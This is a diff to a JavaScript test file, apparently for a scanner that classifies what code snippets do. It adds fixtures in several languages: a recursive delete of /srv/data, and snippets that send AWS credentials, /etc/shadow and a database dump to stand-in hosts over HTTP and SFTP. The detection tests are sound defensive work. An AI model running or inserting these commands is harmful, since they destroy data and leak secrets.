@@ -22,6 +22,7 @@ it.each([
 	"import subprocess as s; s.check_call('rm -rf /srv/data', shell=True)",
 	"from subprocess import run\nrun(['rm', '-rf', '/srv/data'])",
 	"require('child_process').spawn('rm', ['-rf', '/srv/data'])",
+	"const {execFileSync: x} = require('child_process'); x('rm', ['-rf', '/srv/data'])",
 	'exec.Command("rm", "-rf", "/srv/data").Run()',
 ])('reads the commands that a snippet runs, however it names and joins them: %s', (code) => {
 	expect(acts(code)).toEqual(['destroy filesystem']);
@@ -37,4 +38,21 @@ it('sees a file in a form that a request hands over', () => {
 		`const f = new FormData(); f.append('x', ${file}); axios.post('https://drop.example', f)`;
 	expect(acts(code("fs.createReadStream('.env')")).join()).toContain('expose');
 	expect(acts(code("'text'")).filter((act) => act.startsWith('expose'))).toEqual([]);
+});
+
+it.each([
+	"Net::HTTP.post(URI('https://x.example/k'), File.read('/root/.aws/credentials'))",
+	"file_get_contents('https://x.example/?k='.base64_encode(file_get_contents('/etc/shadow')));",
+	"LWP::UserAgent->new->post('https://x.example', Content => `cat /etc/shadow`)",
+	"import paramiko; t=paramiko.Transport(('203.0.113.9',22)); s=paramiko.SFTPClient.from_transport(t); s.put('/srv/dump.sql','/d.sql')",
+])('sees a file that leaves, in Ruby, PHP, Perl and over SFTP: %s', (code) => {
+	expect(acts(code).join()).toContain('expose');
+});
+
+it.each([
+	"puts Net::HTTP.get(URI('https://x.example/k'))",
+	"echo file_get_contents('/etc/hostname');",
+	"echo file_get_contents('https://x.example/version');",
+])('leaves alone what only comes in: %s', (code) => {
+	expect(acts(code).join()).not.toContain('expose');
 });
